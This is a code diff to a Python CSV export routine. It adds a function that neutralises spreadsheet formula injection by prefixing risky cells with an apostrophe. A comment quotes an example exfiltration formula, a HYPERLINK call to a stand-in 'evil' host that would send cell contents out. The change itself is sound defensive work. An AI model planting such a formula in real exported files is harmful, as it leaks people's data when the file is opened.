@@ -79,11 +79,27 @@ def write_csv(out: TextIO, header: dict[str, Any], memories: Iterable[dict[str, 
     return {"memories": n, "links": 0, "events": 0}
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula (CSV injection): a memory reading
+# `=HYPERLINK("http://evil/?"&A1)` would send the person's data away when the file is opened.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_safe(text: str) -> str:
+    """Text a spreadsheet shows as text: a leading apostrophe before a formula-like start.
+
+    >>> csv_safe("=1+1"), csv_safe("-2"), csv_safe("plain")
+    ("'=1+1", "'-2", 'plain')
+    """
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
 def _cell(value: Any) -> Any:
     if isinstance(value, bool):
         return int(value)
     if isinstance(value, dict | list):
-        return _dump(value)
+        return csv_safe(_dump(value))
+    if isinstance(value, str):
+        return csv_safe(value)
     return "" if value is None else value
 
 
